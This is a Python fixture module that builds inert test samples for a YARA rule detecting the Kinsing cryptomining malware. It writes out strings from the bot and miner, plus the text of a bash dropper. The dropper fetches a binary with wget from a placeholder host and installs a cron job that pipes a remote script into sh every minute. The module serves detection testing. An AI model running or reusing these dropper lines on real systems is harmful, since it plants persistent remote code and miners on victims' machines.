"""Inert samples and near-misses for signatures/rules/kinsing.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, a, elf, text


def kinsing_bot() -> dict[str, bytes]:
    return {
        "kinsing-elf": elf(
            *a(
                "Go build ID: inert",
                "main.masscan",
                "main.backconnect",
                "main.getMinerPid",
                "main.redisBrute",
                "main.RC4",
                "main.runTask",
                "main.checkHealth",
                "main.getActiveC2CUrl",
                "-iL $INPUT --rate $RATE -p$PORT -oL $OUTPUT",
            )
        )
    }


def kinsing_miner() -> dict[str, bytes]:
    return {
        "kdevtmpfsi-elf": elf(
            *a("kdevtmpfsi", "XMRig", "xmrig.com", "--donate-level", "randomx", "stratum+tcp://", "cryptonight")
        )
    }


def kinsing_dropper() -> dict[str, bytes]:
    return {
        "d-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            'LDR="wget -q -O -"',
            "pkill -f kdevtmpfsi",
            "rm -f /tmp/kdevtmpfsi",
            f"$LDR http://{HOST}/kinsing > /etc/kinsing",
            "chmod +x /etc/kinsing",
            f"crontab -l | grep -e '{HOST}' | grep -v 'unk.sh' || "
            f"(echo '* * * * * $LDR http://{HOST}/unk.sh | sh > /dev/null 2>&1') | crontab -",
        )
    }


SAMPLES: Builders = {
    "Kinsing_Go_Bot": kinsing_bot,
    "Kinsing_kdevtmpfsi_Miner": kinsing_miner,
    "Kinsing_Dropper_Script": kinsing_dropper,
}

NEARMISS: Builders = {}
